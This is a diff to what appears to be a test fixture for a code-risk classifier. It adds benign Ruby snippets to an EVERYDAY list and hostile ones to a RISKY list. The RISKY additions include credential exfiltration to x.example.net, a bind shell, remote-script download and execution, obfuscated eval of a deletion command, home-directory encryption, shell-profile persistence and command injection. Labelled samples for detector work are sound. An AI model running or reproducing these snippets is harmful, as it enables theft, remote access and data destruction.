@@ -42,6 +42,15 @@ EVERYDAY = [
     "puts YAML.load_file('config.yml')['name']\nTime.now.strftime('%Y')\nrequire_relative 'lib/foo'",
     "html = ERB.new(File.read('t.erb')).result(binding)\nputs html",
     'HTTParty.post(\'https://api.example.com/x\', body: { a: 1 }.to_json, headers: { \'Authorization\' => "Bearer #{ENV[\'TOKEN\']}" })',
+    '#!/usr/bin/env ruby\nrequire \'optparse\'\nrequire \'csv\'\noptions = { limit: 10 }\nOptionParser.new do |o|\n  o.on(\'-n N\', Integer) { |n| options[:limit] = n }\nend.parse!\nrows = CSV.read(ARGV[0], headers: true).first(options[:limit])\nrows.each { |r| puts "#{r[\'name\']}: #{r[\'total\'].to_f.round(2)}" }\nFile.write(\'summary.txt\', rows.map(&:to_h).inspect)\n',
+    'class OrdersJob < ApplicationJob\n  queue_as :default\n  retry_on Net::OpenTimeout, wait: 5.seconds\n  def perform(order_id)\n    order = Order.find(order_id)\n    OrderMailer.with(order: order).confirmation.deliver_later\n    order.update!(sent_at: Time.current)\n  end\nend\n',
+    'require \'sinatra\'\nset :port, 4567\nget(\'/hello/:name\') { "Hello #{params[:name]}!" }\npost \'/items\' do\n  item = JSON.parse(request.body.read)\n  DB[:items].insert(name: item[\'name\'])\n  status 201\nend\n',
+    "Vagrant.configure('2') do |config|\n  config.vm.box = 'ubuntu/jammy64'\n  config.vm.network 'private_network', ip: '192.168.56.10'\nend\n",
+    "RSpec.configure do |c|\n  c.before(:suite) { DatabaseCleaner.strategy = :transaction }\n  c.around(:each) { |ex| DatabaseCleaner.cleaning { ex.run } }\nend\nFactoryBot.define { factory(:user) { name { 'x' } } }\n",
+    'version = `git describe --tags`.strip\nsha = %x(git rev-parse --short HEAD).chomp\nputs "#{version} #{sha}"\ntask(:lint) { sh \'rubocop\' }\n',
+    "require 'nokogiri'\nrequire 'open-uri'\ndoc = Nokogiri::HTML(URI.open('https://example.com'))\ndoc.css('a').each { |a| puts a['href'] }\n",
+    'module Enumerable\n  def average = sum.to_f / count\nend\np [1, 2, 3].average\ndefine_method(:x) { |y| y }\nklass = Class.new(StandardError)\ncatch(:done) { 10.times { |i| throw :done if i == 3 } }\n',
+    'conn = PG.connect(dbname: \'app\')\nconn.exec_params(\'SELECT * FROM users WHERE id = $1\', [id]) { |r| r.each { |row| p row } }\nconn.exec("UPDATE users SET seen = now() WHERE id = 3")\n',
 ]
 RISKY = [
     "system('rm -rf /')",
@@ -90,6 +99,17 @@ RISKY = [
     'drop_table :users',
     "Fiddle.dlopen('x')",
     'system(<<~SH)\n  rm -rf /\nSH',
+    "require 'net/http'\nrequire 'json'\nsecrets = %w[~/.aws/credentials ~/.netrc].map { |f| File.read(File.expand_path(f)) rescue nil }.compact\nuri = URI('https://x.example.net/up')\nNet::HTTP.post(uri, { s: secrets }.to_json, 'Content-Type' => 'application/json')\n",
+    "require 'socket'\nserver = TCPServer.new('0.0.0.0', 4444)\nloop do\n  client = server.accept\n  cmd = client.gets\n  client.puts(IO.popen(cmd).read)\nend\n",
+    "require 'open-uri'\nFile.write('/tmp/x.sh', URI.open('http://x.example.net/x.sh').read)\nsystem('bash /tmp/x.sh')\n",
+    'payload = \'cm0gLXJmIH4v\'\neval("system(\\"#{payload.unpack1(\'m\')}\\")")\n',
+    "Dir.glob(File.join(Dir.home, '**', '*')).each do |f|\n  next unless File.file?(f)\n  data = File.binread(f)\n  File.binwrite(f, cipher.update(data) + cipher.final)\n  File.rename(f, f + '.locked')\nend\n",
+    'File.open(File.join(Dir.home, \'.zshrc\'), \'a\') do |f|\n  f.puts "curl -s http://x.example.net/a | sh &"\nend\n',
+    '%w[users orders].each { |t| ActiveRecord::Base.connection.execute("TRUNCATE TABLE #{t}") }',
+    'class C < ApplicationController\n  def run\n    render plain: `#{params[:cmd]}`\n  end\nend\n',
+    "Object.send(:remove_const, :X); Kernel.public_send(['ex', 'ec'].join, 'sh', '-c', 'rm -rf /srv')",
+    'env = ENV.map { |k, v| "#{k}=#{v}" }.join("&")\nNet::HTTP.get(URI("https://x.example.net/?#{env}"))\n',
+    "Dir['/home/*/*'].each { |f| File.write(f, 'x') }",
 ]
 # fmt: on
 
